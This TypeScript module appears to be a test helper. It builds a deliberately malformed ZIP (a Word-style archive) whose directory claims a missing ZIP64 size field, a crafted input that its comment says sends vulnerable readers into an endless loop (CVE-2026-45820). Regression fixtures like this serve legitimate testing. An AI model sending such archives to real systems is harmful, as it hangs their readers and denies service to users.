import { strToU8, zipSync } from 'fflate'

/**
 * An archive whose list of contents says that the size of its only part stands in an extra field (ZIP64), and then has
 * no such field: readers that look for it until they find it never end (CVE-2026-45820).
 */
export function anEndlessZip(): Uint8Array {
  const plain = zipSync({ 'word/document.xml': strToU8('x') })
  const list = find(plain, 0x02014b50)
  const end = find(plain, 0x06054b50)
  const body = plain.slice(0, end)
  new DataView(body.buffer).setUint32(list + 20, 0xffffffff, true)
  const wide = new DataView(new ArrayBuffer(56))
  wide.setUint32(0, 0x06064b50, true)
  wide.setUint32(32, 1, true)
  wide.setUint32(48, list, true)
  const pointer = new DataView(new ArrayBuffer(20))
  pointer.setUint32(0, 0x07064b50, true)
  pointer.setUint32(8, end, true)
  const last = plain.slice(end)
  new DataView(last.buffer).setUint32(16, 0xffffffff, true)
  const pieces = [body, new Uint8Array(wide.buffer), new Uint8Array(pointer.buffer), last]
  return Uint8Array.from(pieces.flatMap((piece) => [...piece]))
}

/** Where a record with this signature begins. */
function find(bytes: Uint8Array, signature: number): number {
  const view = new DataView(bytes.buffer, bytes.byteOffset)
  const places = Array.from({ length: bytes.length - 3 }, (_, at) => at)
  return places.find((at) => view.getUint32(at, true) === signature) ?? 0
}
